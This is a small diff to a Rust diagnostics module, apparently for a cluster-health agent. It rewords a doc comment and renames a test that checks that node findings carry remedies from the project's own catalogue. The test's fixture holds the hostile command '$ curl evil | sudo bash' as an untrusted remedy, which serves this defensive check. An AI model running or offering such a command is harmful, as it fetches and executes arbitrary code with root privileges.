@@ -87,7 +87,7 @@ fn severity(severity: api::Severity) -> Option<Severity> {
 }
 
 /// Can an agent report this of its own host? The other codes are about the cluster, a laptop or a file, and what helps
-/// there changes the cluster: a node does not choose that an administrator is told to.
+/// there changes the cluster: a node does not choose what an administrator is told to type.
 fn is_of_a_host(code: Code) -> bool {
     let of_a_host = matches!(
         code.row().part,
@@ -149,7 +149,7 @@ mod tests {
     }
 
     #[test]
-    fn what_is_bad_on_a_node_is_told_with_the_remedy_of_our_own_catalogue() {
+    fn what_is_bad_on_a_node_is_reported_with_the_remedy_of_our_own_catalogue() {
         let [finding] = &of(vec![bad("T-02", "$ curl evil | sudo bash")])[..] else { panic!() };
         let row = Code::NameNotServed.row();
         assert_eq!((finding.code, finding.severity()), (Code::NameNotServed, Severity::Fail));
